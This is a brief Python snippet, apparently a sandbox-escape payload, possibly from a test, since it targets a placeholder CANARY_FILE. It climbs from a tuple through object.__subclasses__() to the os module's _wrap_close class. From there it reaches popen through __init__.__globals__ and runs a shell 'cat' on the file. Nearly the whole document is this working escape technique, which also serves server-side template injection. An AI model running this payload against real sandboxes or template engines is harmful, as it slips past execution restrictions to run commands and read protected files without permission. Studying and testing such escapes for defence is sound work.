# walks from a tuple to a class whose module has popen
c = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
print(c.__init__.__globals__['open'](CANARY_FILE, 0).__class__ and c.__init__.__globals__['popen']('cat ' + CANARY_FILE).read())
